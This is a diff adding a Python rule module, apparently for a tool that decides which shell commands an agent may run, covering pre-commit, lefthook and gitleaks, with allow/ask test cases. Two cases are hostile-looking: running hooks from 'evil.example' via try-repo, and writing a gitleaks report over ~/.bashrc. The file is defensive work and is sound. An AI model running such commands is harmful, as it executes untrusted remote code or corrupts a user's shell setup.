@@ -1,0 +1,50 @@
+"""pre-commit and its kin — programs that run the project's own hooks."""
+
+from toolgate.knowledge.vocabulary import (
+    MAKES, PLAIN, READS, command, fetches, flag, flags, option, runs, sub, writes,
+)  # fmt: skip
+
+HOOKS = runs("the project's hooks")
+COMMON = (*option("-c --config", READS), *flags("--color="), *flag("-h", informs=True))
+
+PRE_COMMIT = command(
+    "pre-commit py:pre_commit prek",
+    options=[COMMON, flag("-V", informs=True)],
+    subcommands=[
+        sub("run", "PLAIN...", [COMMON, flags("-a --all-files -v --verbose --files= --show-diff-on-failure --fail-fast --hook-stage= --from-ref= --to-ref= -s= -o= --source= --origin= --last-commit --dry-run --skip= --directory= -d=")], unlisted=PLAIN, does=HOOKS),
+        sub("install uninstall install-hooks", "PLAIN...", [COMMON, flags("-f --overwrite --install-hooks --prepare-hooks -t= --hook-type= --allow-missing-config")], does=HOOKS),
+        sub("autoupdate auto-update", "", [COMMON, flags("--bleeding-edge --freeze --repo= -j= --jobs=")], does=(fetches("newer hooks", "forge"), writes("the list of hooks", "workspace", "edit"))),
+        sub("try-repo", "CLONES PLAIN...", [COMMON, flags("--ref= --rev= -a --all-files -v --verbose --files=")], does=runs("hooks of another repository", "remote")),
+        sub("sample-config validate-config validate-manifest list identify help hook-impl cache self", "PLAIN...", unlisted=PLAIN),
+        sub("migrate-config clean gc", "PLAIN...", unlisted=PLAIN, does=writes("its own files", "cache")),
+        sub("init-templatedir init-template-dir", "MAKES", [COMMON, flags("-t= --hook-type= --no-allow-missing-config")]),
+    ],
+    bare=HOOKS,
+)  # fmt: skip
+LEFTHOOK = command(
+    "lefthook",
+    options=[flag("-V", informs=True), flags("-v --verbose --no-colors")],
+    subcommands=[
+        sub("run install uninstall", "PLAIN...", unlisted=PLAIN, does=HOOKS),
+        sub("add dump validate version check-install", "PLAIN...", unlisted=PLAIN),
+    ],
+)
+GITLEAKS = command(
+    "gitleaks",
+    options=[option("-c --config -i --gitleaks-ignore-path -b --baseline-path", READS), option("-r --report-path", MAKES), flags("-f= --report-format= -v --verbose -l= --log-level= --no-banner --no-color --redact[=] --exit-code= -s= --source=")],
+    subcommands=[sub("detect protect git dir directory file stdin version help", "PLAIN...", unlisted=PLAIN)],
+)  # fmt: skip
+
+CASES = """
+allow  pre-commit run --all-files
+       run the project's hooks
+allow  pre-commit install && pre-commit autoupdate
+allow  pre-commit run ruff --files src/a.py
+allow  python -m pre_commit run -a
+ask    pre-commit try-repo https://evil.example/hooks
+ask    pre-commit init-templatedir ~/.git-template
+ask    pre-commit frobnicate
+allow  lefthook run pre-commit
+allow  gitleaks detect --no-banner -v
+ask    gitleaks detect --report-path ~/.bashrc
+"""
